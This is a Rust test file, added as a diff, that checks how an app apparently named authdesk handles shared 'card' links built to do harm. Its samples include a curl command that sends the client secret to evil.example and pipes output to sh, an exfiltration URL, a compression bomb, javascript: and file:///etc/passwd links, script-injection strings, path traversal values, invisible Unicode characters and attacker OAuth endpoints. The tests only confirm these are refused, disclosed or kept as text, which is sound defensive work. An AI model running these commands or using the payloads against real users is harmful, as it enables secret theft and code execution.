@@ -1,0 +1,203 @@
+//! Cards that somebody made to do harm: they stay text, or are not opened.
+
+use authdesk::desk::card::{
+    CardFile, CardRefusal, DEEPEST, Draft, LONGEST_FILE, LONGEST_LINK, MOST, Tree, is_link, read_link, refused, view,
+    write_link,
+};
+use authdesk::desk::{CardAction, Field, Route};
+use authdesk::oauth::Secret;
+use base64::Engine as _;
+use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+
+use super::files::draft_of;
+use crate::desk::person::{CLIENT_SECRET, Person, read};
+
+/// A small card that is whole.
+fn sound() -> Draft {
+    draft_of(&read("catalog/products/tines.json"), &[("en".to_owned(), read("catalog/products/tines.en.json"))])
+}
+
+/// A link that contains this text, whatever it is.
+fn link_of(text: &[u8]) -> String {
+    let packed = miniz_oxide::deflate::compress_to_vec(text, 9);
+    format!("#/card?v=1&c={}", URL_SAFE_NO_PAD.encode(packed))
+}
+
+/// A link to the small card with one text for another.
+fn changed(from: &str, to: &str) -> String {
+    let text = sound().packed();
+    assert!(text.contains(from), "{from}");
+    link_of(text.replacen(from, to, 1).as_bytes())
+}
+
+#[track_caller]
+fn refusal(link: &str) -> CardRefusal {
+    let refusal = read_link(link).expect_err("it is not opened");
+    // The page says why, and has no other card.
+    let mut person = Person::at_card();
+    let before = person.draft();
+    person.does(CardAction::Arrived(Secret::new(link)));
+    assert!(view(&person.0).refused.is_some_and(|says| !says.is_empty()));
+    assert_eq!(view(&person.0).offer, None);
+    assert_eq!(person.draft(), before);
+    refusal
+}
+
+#[test]
+fn a_card_from_a_link_is_shown_before_it_is_opened() {
+    let link = write_link(&sound()).unwrap();
+    assert!(is_link(&link) && !is_link("#/card") && !is_link("#/product/x?c=1"));
+    assert_eq!(Route::parse(&link), Route::Card { variant: None });
+    let mut person = Person::at_card();
+    person.does(CardAction::Arrived(Secret::new(link.as_str())));
+    let offer = view(&person.0).offer.unwrap();
+    assert!(offer.is_sent && !offer.replaces);
+    assert_eq!((offer.name.as_str(), offer.vendor.as_str()), ("Tines", "Tines"));
+    assert_eq!(offer.addresses, ["https://www.tines.com/docs/credentials/connect-flows/zoom/"]);
+    assert_eq!(person.card_field("name").value, "", "it is not opened yet");
+    person.types(Field::ClientSecret, CLIENT_SECRET);
+    person.does(CardAction::Taken);
+    assert!(view(&person.0).is_sent);
+    assert_eq!(person.entry(Field::ClientSecret), "", "it gets nothing that was entered before");
+    assert_eq!(person.draft(), sound());
+
+    person.fills("name", "Mine");
+    person.does(CardAction::Arrived(Secret::new(link)));
+    assert!(view(&person.0).offer.unwrap().replaces, "a card that is there is asked for");
+    person.does(CardAction::Dismissed);
+    assert_eq!(person.card_field("name").value, "Mine");
+}
+
+#[test]
+fn every_address_and_every_command_is_shown_first() {
+    let facts = read("catalog/products/tines.json");
+    let block = r#""blocks": [{ "id": "b", "format": "shell_command", "command": "curl -d @- evil.example",
+        "lines": [["x", "{client_secret}"]], "after": ["| sh"] }], "values": ["#;
+    let facts = facts.replacen("\"values\": [", block, 1);
+    let facts = facts.replacen("{account_id}", "https://evil.example/?s={client_secret|url}", 1);
+    let prose =
+        read("catalog/products/tines.en.json").replacen("and enter its", "at WWW.evil.example and enter its", 1);
+    let draft = draft_of(&facts, &[("en".to_owned(), prose)]);
+    let mut person = Person::at_card();
+    person.does(CardAction::Arrived(Secret::new(write_link(&draft).unwrap())));
+    let offer = view(&person.0).offer.unwrap();
+    assert_eq!(offer.commands, ["curl -d @- evil.example", "| sh"]);
+    assert!(offer.addresses.contains(&"https://evil.example/?s={client_secret|url}".to_owned()), "{offer:?}");
+    assert!(offer.addresses.iter().any(|text| text.contains("WWW.evil.example")), "{offer:?}");
+}
+
+#[test]
+fn what_is_too_large_is_not_opened() {
+    assert_eq!(refusal(&format!("#/card?v=1&c={}", "A".repeat(1_000_000))), CardRefusal::TooLong);
+    // A megabyte of spaces is a kilobyte when it is compressed.
+    let bomb = link_of(&vec![b' '; 64_000_000]);
+    assert!(bomb.len() > LONGEST_LINK, "64 MB do not even fit");
+    let bomb = link_of(&vec![b' '; 1_000_000]);
+    assert!(bomb.len() < LONGEST_LINK);
+    assert_eq!(refusal(&bomb), CardRefusal::TooLong);
+    let most = LONGEST_FILE - 2;
+    assert!(matches!(refusal(&link_of(&vec![b' '; most])), CardRefusal::NotJson { .. }), "the limit is exact");
+    let deep = |levels: usize| format!("{{\"facts\":{}{}}}", "[".repeat(levels), "]".repeat(levels));
+    assert_eq!(refusal(&link_of(deep(100_000).as_bytes())), CardRefusal::TooDeep);
+    assert_eq!(refusal(&link_of(deep(DEEPEST).as_bytes())), CardRefusal::TooDeep);
+    assert_eq!(refusal(&link_of(deep(DEEPEST - 1).as_bytes())), CardRefusal::NoCard, "the limit is exact");
+    let many = |count: usize| format!("[{}0]", "0,".repeat(count - 2));
+    assert_eq!(Tree::read(&many(MOST)).map(drop), Ok(()));
+    assert_eq!(Tree::read(&many(MOST + 1)), Err(CardRefusal::TooMany));
+    assert_eq!(CardFile::read("", &" ".repeat(LONGEST_FILE + 1)), Err(CardRefusal::TooLong));
+}
+
+#[test]
+fn what_is_no_link_is_told() {
+    for link in ["#/card?v=1&c=", "#/card?v=1&c=%00", "#/card?v=1&c=AAAA", "#/card?v=1&c=!!", "#/card?v=1&x=1&c=Ä"] {
+        assert!(matches!(refusal(link), CardRefusal::NoLink | CardRefusal::NotJson { .. }), "{link}");
+    }
+    let link = write_link(&sound()).unwrap();
+    for at in (20..link.len()).step_by(97) {
+        assert!(read_link(&link[..at]).is_err(), "cut off after {at}");
+    }
+    assert_eq!(refusal(&link.replace("v=1", "v=2")), CardRefusal::Version("2".into()));
+    assert_eq!(refusal(&link.replace("v=1&", "")), CardRefusal::Version(String::new()));
+    assert_eq!(refusal(&format!("{link}&c=AAAA")), CardRefusal::Twice("c".into()));
+    assert_eq!(refusal(&link_of(&[0xff, 0xfe, 0])), CardRefusal::NoLink);
+    assert_eq!(read_link(&format!("{link}&more=1")), Ok(sound()), "what is not known is not read");
+}
+
+#[test]
+fn keys_that_are_twice_or_unknown_and_other_versions_are_not_opened() {
+    assert_eq!(refusal(&changed("\"vendor\":", "\"name\":\"Other\",\"vendor\":")), CardRefusal::Twice("name".into()));
+    assert_eq!(refusal(&changed("\"doc\":{", "\"doc\":{},\"doc\":{")), CardRefusal::Twice("doc".into()));
+    for (from, to) in [
+        ("\"vendor\":", "\"script\":\"x\",\"vendor\":"),
+        ("\"schema\":2", "\"schema\":3"),
+        ("\"title\":", "\"onclick\":\"x\",\"title\":"),
+        ("\"summary\":", "\"html\":\"x\",\"summary\":"),
+        ("\"provider\":\"zoom\"", "\"provider\":\"../../zoom\""),
+        ("\"id\":\"tines\"", "\"id\":\"../tines\""),
+        ("{client_id}", "{client_id"),
+    ] {
+        assert!(matches!(refusal(&changed(from, to)), CardRefusal::Unfinished(_)), "{to}");
+    }
+    assert_eq!(refusal(&changed("\"facts\":", "\"more\":1,\"facts\":")), CardRefusal::NoCard);
+    assert_eq!(refusal(&link_of(b"{\"facts\":{},\"prose\":{}}")), CardRefusal::NoCard);
+    assert_eq!(refusal(&link_of(b"{\"facts\":[],\"prose\":{\"en\":{}}}")), CardRefusal::NoCard);
+    assert_eq!(refusal(&link_of(b"{\"facts\":{},\"prose\":{\"../en\":{}}}")), CardRefusal::NoCard);
+}
+
+#[test]
+fn an_address_is_one_of_the_web_with_tls() {
+    let url = "https://www.tines.com/docs/credentials/connect-flows/zoom/";
+    for other in [
+        "javascript:alert(1)",
+        "JavaScript:alert(1)",
+        " javascript:alert(1)",
+        "data:text/html,<script>alert(1)</script>",
+        "https:evil.example",
+        "//evil.example",
+        "file:///etc/passwd",
+        "https://",
+    ] {
+        assert!(
+            matches!(refusal(&changed(url, other)), CardRefusal::Insecure(_) | CardRefusal::Unfinished(_)),
+            "{other}"
+        );
+    }
+    assert_eq!(refusal(&changed(url, "http://a.example/")), CardRefusal::Insecure("http://a.example/".into()));
+}
+
+#[test]
+fn what_nobody_sees_is_not_opened() {
+    for ch in ['\u{202e}', '\u{2066}', '\u{200b}', '\u{ad}', '\u{feff}', '\u{e0041}', '\u{2028}'] {
+        assert_eq!(refusal(&changed("Client secret", &format!("Client{ch}secret"))), CardRefusal::Unseen(ch));
+    }
+    for (escape, ch) in [("\\u0000", '\0'), ("\\n", '\n'), ("\\u001b", '\u{1b}'), ("\\u202e", '\u{202e}')] {
+        assert_eq!(refusal(&changed("Client secret", &format!("Client{escape}secret"))), CardRefusal::Unseen(ch));
+    }
+    // In a name too.
+    assert_eq!(refusal(&changed("\"doc\":{", "\"d\u{202e}oc\":{")), CardRefusal::Unseen('\u{202e}'));
+    for text in ["Überprüfung", "C:\\Zoom", "日本語", "Ελληνικά", "a\u{a0}b", "naïve – „so“"] {
+        assert_eq!(refused(text), None, "{text}");
+    }
+}
+
+#[test]
+fn script_stays_text() {
+    let script = "<script>alert(1)</script><img src=x onerror=alert(1)>";
+    let mut person = Person::at_card();
+    person.does(CardAction::Arrived(Secret::new(changed("Client secret", script))));
+    person.does(CardAction::Taken);
+    assert_eq!(person.card_field("value-2-label").value, script);
+}
+
+#[test]
+fn a_card_cannot_be_for_a_server_of_its_own() {
+    let mut person = Person::at_card();
+    let endpoints = "\"endpoints\":{\"authorize\":\"https://evil.example/a\",\"token\":\"https://evil.example/t\"},";
+    let link = changed("\"vendor\":", &format!("{endpoints}\"vendor\":"));
+    assert!(matches!(refusal(&link), CardRefusal::Unfinished(_)));
+    person.does(CardAction::Arrived(Secret::new(changed("\"provider\":\"zoom\"", "\"provider\":\"evil\""))));
+    person.does(CardAction::Taken);
+    assert!(!view(&person.0).is_current);
+    assert!(person.wrong().iter().any(|fault| fault.contains("evil")), "{:?}", person.wrong());
+    assert!(person.0.guide().is_none());
+}
